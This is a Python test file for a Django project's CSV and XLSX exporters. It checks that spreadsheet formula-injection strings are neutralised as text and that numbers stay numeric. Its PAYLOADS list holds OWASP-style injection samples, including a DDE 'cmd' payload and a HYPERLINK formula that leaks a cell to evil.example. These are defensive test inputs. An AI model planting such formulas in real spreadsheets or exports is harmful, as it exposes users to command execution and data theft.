"""No download can carry a formula; one XLSX writer; several tables per download; one download convention.

Formula payloads from OWASP's CSV-injection page: a text cell beginning with ``=``, ``+``, ``-``,
``@``, a tab or a carriage return. In XLSX every text cell is a text cell (openpyxl reads it back
with data type ``s``, never ``f``); in CSV such text gets a leading ``'``. Numbers stay numbers.
"""

from __future__ import annotations

import csv
import io
import zipfile

import openpyxl
import pandas as pd
import pytest
from django.urls import reverse
from django.utils import timezone

from payesh.core.exporters import EXPORTERS, XLSX_MIMETYPE, download_request, export

PAYLOADS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1", "@SUM(A1:A9)",
            "-2+3", "\tTAB", "\rCR"]
HARMLESS = ["PAK", "1402/07/16", "a=b", "گمرک میرجاوه"]


def _frame() -> pd.DataFrame:
    texts = PAYLOADS + HARMLESS
    return pd.DataFrame({
        "text": texts,
        "value_usd": [-2.0, 1500.5, -0.25, 0.0, 3.0, -7.0, 8.0, 9.0, 10.0, 11.0, 12.0],
        "rows": [-2, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10],
    })


def _csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def test_csv_neutralises_every_formula_and_keeps_numbers() -> None:
    file = export([("t", _frame())], "csv", stem="payesh-test")
    assert file.filename == "payesh-test.csv" and file.mimetype.startswith("text/csv")
    header, *rows = _csv_rows(file.content)
    assert header == ["text", "value_usd", "rows"]
    texts = [row[0] for row in rows]
    assert texts[: len(PAYLOADS)] == ["'" + p for p in PAYLOADS]
    assert texts[len(PAYLOADS):] == HARMLESS
    # -2 is a number, not text: written as a number, without a quote.
    assert rows[0][1] == "-2.0" and rows[0][2] == "-2" and rows[2][1] == "-0.25"


def test_xlsx_writes_text_as_text_and_numbers_as_numbers() -> None:
    file = export([("t", _frame())], "xlsx", stem="payesh-test", language="fa")
    assert file.filename == "payesh-test.xlsx" and file.mimetype == XLSX_MIMETYPE
    sheet = openpyxl.load_workbook(io.BytesIO(file.content)).active
    assert sheet is not None and sheet.sheet_view.rightToLeft is True
    cells = list(sheet.iter_rows(min_row=2))
    for row, text in zip(cells, PAYLOADS + HARMLESS, strict=True):
        # The reader sees what was in the table (XML reads a lone carriage return as a line feed)…
        assert row[0].value == text.replace("\r", "\n")
        assert row[0].data_type == "s"  # …as text, never a formula ("f")
    assert (cells[0][1].value, cells[0][1].data_type) == (-2, "n")
    assert (cells[0][2].value, cells[0][2].data_type) == (-2, "n")
    assert (cells[2][1].value, cells[2][1].data_type) == (-0.25, "n")
    # No formula element anywhere in the sheet's XML.
    with zipfile.ZipFile(io.BytesIO(file.content)) as book:
        sheet_xml = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml


def test_xlsx_keeps_control_characters_visible_instead_of_breaking_the_file() -> None:
    frame = pd.DataFrame({"value": ["ok\x00nul", "bell\x07"], "n": [float("nan"), 1.0]})
    sheet = openpyxl.load_workbook(io.BytesIO(export([("t", frame)], "xlsx", stem="x").content)).active
    assert sheet is not None
    assert [c.value for c in sheet["A"]][1:] == ["ok\\x00nul", "bell\\x07"]
    assert sheet["B2"].value is None and sheet["B3"].value == 1


def test_a_report_of_several_tables_is_one_workbook_or_one_zip() -> None:
    tables = [("exports/partners", pd.DataFrame({"a": [1]})), ("exports/partners", pd.DataFrame({"b": ["=1+1"]}))]
    book = openpyxl.load_workbook(io.BytesIO(export(tables, "xlsx", stem="report").content))
    assert book.sheetnames == ["exports-partners", "exports-partners (2)"]
    assert book.worksheets[1]["A2"].data_type == "s"
    zipped = export(tables, "csv", stem="report")
    assert zipped.filename == "report.zip" and zipped.mimetype == "application/zip"
    with zipfile.ZipFile(io.BytesIO(zipped.content)) as archive:
        assert archive.namelist() == ["exports-partners.csv", "exports-partners (2).csv"]
        assert _csv_rows(archive.read("exports-partners (2).csv")) == [["b"], ["'=1+1"]]
    as_json = export(tables, "json", stem="report")
    assert as_json.filename == "report.json" and b'"tables"' in as_json.content


@pytest.mark.parametrize(("params", "expected"), [
    ({}, None),
    ({"download": "partners", "format": "xlsx"}, ("partners", "xlsx")),
    ({"download": "partners"}, ("partners", "csv")),
    ({"download": "xlsx", "table": "partners"}, ("partners", "xlsx")),  # the old spelling of saved links
    ({"download": "csv"}, ("counties", "csv")),  # old spelling, the page's default table
    ({"download": "docx", "table": "partners"}, ("docx", "csv")),  # unknown: the caller answers 404
])
def test_one_download_convention_that_still_reads_old_links(params, expected) -> None:  # type: ignore[no-untyped-def]
    assert download_request(params, {"partners": pd.DataFrame(), "counties": pd.DataFrame()},
                            default="counties") == expected


def test_every_registered_format_renders_a_table() -> None:
    for fmt in EXPORTERS:
        file = export([("t", _frame())], fmt, stem="payesh-t")
        assert file.filename == f"payesh-t.{EXPORTERS[fmt].extension}" and len(file.content) > 0


@pytest.mark.django_db
def test_the_validation_report_cannot_carry_a_formula_from_a_bad_file(client_for, analyst) -> None:  # type: ignore[no-untyped-def]
    """A bad cell of an uploaded file is echoed in the report: it must arrive as text."""
    from payesh.ledger.models import Batch, BatchIssue

    batch = Batch.objects.create(id="b-formula", source_name="bad.csv", status=Batch.Status.REJECTED,
                                 created_by=analyst, finished_at=timezone.now())
    BatchIssue.objects.create(batch=batch, row=2, column="partner", value=PAYLOADS[1], rule="partner_unknown",
                              severity="error", message_en="Unknown partner", message_fa="طرف ناشناخته")
    client = client_for(analyst)
    xlsx = client.get(reverse("ledger:batch_report", args=[batch.id, "xlsx"]))
    assert xlsx.status_code == 200 and xlsx["Content-Type"] == XLSX_MIMETYPE
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx.content)).active
    assert sheet is not None
    header = [c.value for c in sheet[1]]
    value = sheet.cell(row=2, column=header.index("value") + 1)
    assert (value.value, value.data_type) == (PAYLOADS[1], "s")
    report = client.get(reverse("ledger:batch_report", args=[batch.id, "csv"]))
    rows = _csv_rows(report.content)
    assert rows[1][rows[0].index("value")] == "'" + PAYLOADS[1]
    assert rows[1][rows[0].index("row")] == "2"
